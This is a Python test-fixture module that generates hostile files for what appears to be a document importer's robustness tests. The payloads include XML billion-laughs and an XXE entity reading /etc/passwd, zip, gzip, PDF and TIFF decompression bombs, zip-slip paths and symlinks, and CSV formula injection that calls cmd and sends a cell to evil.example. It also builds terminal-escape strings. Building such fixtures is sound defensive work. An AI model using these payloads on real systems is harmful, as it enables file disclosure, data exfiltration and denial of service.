"""Hostile files, each made by a small function when it is needed, so that none lies about."""

from __future__ import annotations

import gzip
import io
import json
import re
import struct
import zipfile
import zlib
from pathlib import Path

import document_files as good

GOLDEN = Path(__file__).parent / "golden" / "formats"
ZEROS = bytes(1 << 20)
# What a reader that opens files for whoever asks would find.
SECRET_FILE = "/etc/passwd"
LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1 or str()};" * 10}">' for n in range(1, 10))
    + "]>"
)
EXTERNAL = f'<!DOCTYPE x [<!ENTITY lol9 SYSTEM "file://{SECRET_FILE}">]>'


def golden(name: str) -> bytes:
    return (GOLDEN / name).read_bytes()


def with_doctype(xml: bytes, doctype: str) -> bytes:
    """The same document, which now defines entities and uses one in the first text of its tree."""
    declared, root = re.match(rb"(\s*(?:<\?.*?\?>\s*|<!--.*?-->\s*)*)(.*)", xml, re.DOTALL).groups()  # type: ignore[union-attr]
    laughing = re.sub(rb">([^<>\s][^<>]*)</", rb">&lol9;</", root, count=1)
    return bytes(declared) + doctype.encode() + bytes(laughing)


def inflating(size: int) -> bytes:
    """A zlib stream of so many zeros."""
    packer = zlib.compressobj(9)
    return b"".join([packer.compress(ZEROS) for _ in range(size >> 20)]) + packer.flush()


def zip_of(*members: tuple[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(zipfile.ZipInfo(name, (2026, 3, 2, 9, 0, 0)), content, zipfile.ZIP_DEFLATED)
    return file.getvalue()


def zip_of_zeros(name: str, size: int, *others: tuple[str, str], before: str = "", after: str = "") -> bytes:
    """A zip whose member `name` becomes `size` bytes."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for other, content in others:
            archive.writestr(other, content)
        with archive.open(name, "w", force_zip64=True) as member:
            member.write(before.encode())
            for _ in range(size >> 20):
                member.write(ZEROS.replace(b"\0", b" "))
            member.write(after.encode())
    return file.getvalue()


def nested_zip(depth: int) -> bytes:
    content = b"the innermost"
    for level in range(depth):
        content = zip_of(*((f"{level}-{number}.zip" if level else f"{number}.txt", content) for number in range(2)))
    return content


def overlapping_zip() -> bytes:
    """Four names for the same bytes, as in bombs that need no nesting."""
    whole = bytearray(zip_of(*((f"{n}.bin", ZEROS) for n in range(4))))
    at = -1
    while (at := whole.find(b"PK\x01\x02", at + 1)) >= 0:
        whole[at + 42 : at + 46] = bytes(4)
    return bytes(whole)


def climbing_zip() -> bytes:
    """A link to a file of the machine, and names that lead out of the folder."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        link = zipfile.ZipInfo("link.txt")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, SECRET_FILE)
        archive.writestr("../../climbed.txt", "out of the folder")
        archive.writestr("/absolute.txt", "at the root")
    return file.getvalue()


def word(document: str = "", size: int = 0) -> bytes:
    begin = f'<w:document xmlns:w="{good.WORD}"><w:body><w:p><w:r><w:t>'
    end = "</w:t></w:r></w:p></w:body></w:document>"
    others = (("[Content_Types].xml", good.TYPES), ("_rels/.rels", good.root_relations("word/document.xml")))
    if size:
        return zip_of_zeros("word/document.xml", size, *others, before=begin, after=end)
    members = [(name, content.encode()) for name, content in others]
    return zip_of(*members, ("word/document.xml", (document + begin + ("&lol9;" if document else "") + end).encode()))


def workbook(sheet: str, shared_size: int = 0, doctype: str = "") -> bytes:
    """A workbook of one sheet with these rows; its shared strings become so many bytes."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    sheets = '<sheets><sheet name="Prices" sheetId="1" r:id="r1"/></sheets>'
    book = f'<workbook xmlns="{good.SHEET}" xmlns:r="{kind}">{sheets}</workbook>'
    members = (
        ("[Content_Types].xml", good.TYPES),
        ("_rels/.rels", good.root_relations("xl/workbook.xml")),
        ("xl/workbook.xml", doctype + book),
        ("xl/_rels/workbook.xml.rels", good.relations(("r1", "worksheet", "worksheets/sheet1.xml"),
                                                      ("r2", "sharedStrings", "sharedStrings.xml"))),
        ("xl/worksheets/sheet1.xml", f'<worksheet xmlns="{good.SHEET}"><sheetData>{sheet}</sheetData></worksheet>'),
    )  # fmt: skip
    before, after = f'<sst xmlns="{good.SHEET}"><si><t>', "</t></si></sst>"
    return zip_of_zeros("xl/sharedStrings.xml", shared_size, *members, before=before, after=after)


def endless_sheet() -> bytes:
    """Two cells at the corners of 17,179,869,184."""
    rows = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'
    return workbook(rows)


def pdf(*objects: bytes, trailer: bytes = b"/Root 1 0 R", prev: bool = False) -> bytes:
    """A PDF of these objects, numbered from 1, with a true table of them; with `prev` the table follows itself."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    loop = b"/Prev %d" % start if prev else b""
    out += b"trailer\n<</Size %d %s %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, loop, start)
    return bytes(out)


def circular_pdf() -> bytes:
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 9/Kids[3 0 R]>>",
               b"<</Type/Pages/Count 9/Parent 2 0 R/Kids[2 0 R 3 0 R]>>")  # fmt: skip


def looping_pdf() -> bytes:
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 0/Kids[]>>", prev=True)


def inflating_pdf(size: int) -> bytes:
    """A page whose drawing becomes so many bytes."""
    packed = inflating(size)
    stream = b"<</Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(packed), packed)
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>"
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>", page, stream)


def object_bomb_pdf(size: int) -> bytes:
    """All objects of the document stand in a stream that becomes so many bytes."""
    packed = inflating(size)
    stream = b"<</Type/ObjStm/N 2/First 10/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(packed), packed)
    body = b"%PDF-1.7\n" + b"3 0 obj\n" + stream + b"\nendobj\n"
    rows = struct.pack(">BIB", 0, 0, 0) + struct.pack(">BIB", 2, 3, 0) + struct.pack(">BIB", 2, 3, 1)
    rows += struct.pack(">BIB", 1, 9, 0) + struct.pack(">BIB", 1, len(body), 0)
    table = b"4 0 obj\n<</Type/XRef/Size 5/W[1 4 1]/Root 1 0 R/Length %d>>stream\n%s\nendstream\nendobj\n" % (
        len(rows), rows)  # fmt: skip
    return body + table + b"startxref\n%d\n%%%%EOF\n" % len(body)


def deep_html() -> bytes:
    return b"<!doctype html><html><body>" + b"<div>" * 500_000 + b"the bottom"


def many_attributes_html() -> bytes:
    names = " ".join(f"a{number}=1" for number in range(60_000))
    return f"<!doctype html><html><body><p {names}>wide</p></body></html>".encode()


def deep_json() -> bytes:
    return b'{"log":{"version":"1.2","creator":{},"entries":' + b"[" * 2_000_000


def long_number_json(number: str) -> bytes:
    """A Telegram export whose ids, times and durations are this number."""
    text = golden("telegram-json/one-chat.json").decode()
    text = re.sub(r'"(id|duration_seconds|width|height)": \d+', lambda found: f'"{found[1]}": {number}', text)
    return re.sub(r'"date_unixtime": "\d+"', f'"date_unixtime": {number}', text).encode()


def surrogate_json() -> bytes:
    """Halves of characters and zeros in words and names, which no database takes as they are."""
    text = golden("telegram-json/one-chat.json").decode()
    return re.sub(r'"(name|text|from)": "', r'"\1": "\\ud800\\u0000\\udfff', text).encode()


def formulas_csv() -> bytes:
    rows = [
        "Item,Price,Note",
        "=cmd|'/c calc'!A1,10,@SUM(1+1)*cmd|'/c calc'!A0",
        '"=HYPERLINK(""http://evil.example/?""&A1)",20,+formulaword',
        "\x1b]0;owned\x07\x1b[2J,30,\u202etxt.exe",
    ]
    return "\r\n".join(rows).encode()


def terminal_chat() -> bytes:
    lines = [
        "23/03/2026, 13:31 - Messages and calls are end-to-end encrypted.",
        "23/03/2026, 13:32 - Lin \x1b[2J\u202e: escapeword \x1b]0;owned\x07\x1b[31m and \x9b31m \u2066bidi\u2069",
        "23/03/2026, 13:33 - Anna: fine",
    ]
    return "\n".join(lines).encode()


def tiff_bomb() -> bytes:
    """A TIFF of 60,000 x 60,000 pixels in some bytes."""
    tags = [(256, 4, 1, 60_000), (257, 4, 1, 60_000), (258, 3, 1, 8), (259, 3, 1, 8), (262, 3, 1, 1),
            (273, 4, 1, 8), (277, 3, 1, 1), (278, 4, 1, 60_000), (279, 4, 1, 4)]  # fmt: skip
    table = struct.pack("<H", len(tags)) + b"".join(struct.pack("<HHII", *tag) for tag in tags) + bytes(4)
    return b"II*\0" + struct.pack("<I", 12) + bytes(4) + table


def wrong_warc(length: str) -> bytes:
    record = golden("warc/case.warc")
    return re.sub(rb"Content-Length: \d+", b"Content-Length: " + length.encode(), record)


def har_with_secrets(*secrets: str) -> bytes:
    """A recording in which each of the secrets stands where browsers put them: headers, cookies, addresses, bodies."""
    one, two, three, four = secrets
    request = {
        "method": "GET", "url": f"https://shop.example/order?id=4711&access_token={one}", "httpVersion": "HTTP/1.1",
        "headers": [{"name": "Authorization", "value": f"Bearer {two}"}, {"name": "Cookie", "value": f"sid={three}"}],
        "queryString": [{"name": "access_token", "value": one}], "cookies": [{"name": "sid", "value": three}],
        "headersSize": -1, "bodySize": 0,
    }  # fmt: skip
    page = f"<html><body><p>Order 4711 harword</p><a href='/x?token={four}'>next</a></body></html>"
    response = {
        "status": 200, "statusText": "OK", "httpVersion": "HTTP/1.1", "redirectURL": f"/y?token={four}",
        "headers": [{"name": "Set-Cookie", "value": f"sid={three}; HttpOnly"}], "cookies": [],
        "content": {"size": len(page), "mimeType": "text/html", "text": page}, "headersSize": -1, "bodySize": -1,
    }  # fmt: skip
    entry = {"startedDateTime": "2026-03-02T09:00:00.000Z", "time": 1, "request": request, "response": response,
             "cache": {}, "timings": {"send": 0, "wait": 1, "receive": 0}}  # fmt: skip
    log = {"version": "1.2", "creator": {"name": "WebInspector", "version": "1"}, "pages": [], "entries": [entry]}
    return json.dumps({"log": log}).encode()


def gzip_bomb(size: int) -> bytes:
    file = io.BytesIO()
    with gzip.GzipFile("zeros", "wb", 9, file, 0) as packed:
        for _ in range(size >> 20):
            packed.write(ZEROS)
    return file.getvalue()


def wacz_bomb() -> bytes:
    """A page archive whose page list is endless nesting and whose WARC is a bomb."""
    return zip_of(
        ("datapackage.json", b'{"profile":"data-package","resources":[],"wacz_version":"1.1.1"}'),
        ("pages/pages.jsonl", b'{"format":"json-pages-1.0"}\n' + b"[" * 500_000),
        ("archive/data.warc.gz", gzip_bomb(24 << 20)),
        ("indexes/index.cdx", b""),
    )


def open_document(kind: str, body: str, doctype: str = "") -> bytes:
    packed = good.odf(kind, body)
    with zipfile.ZipFile(io.BytesIO(packed)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    if doctype:
        members["content.xml"] = with_doctype(members["content.xml"], doctype)
    return good.zipped(members)
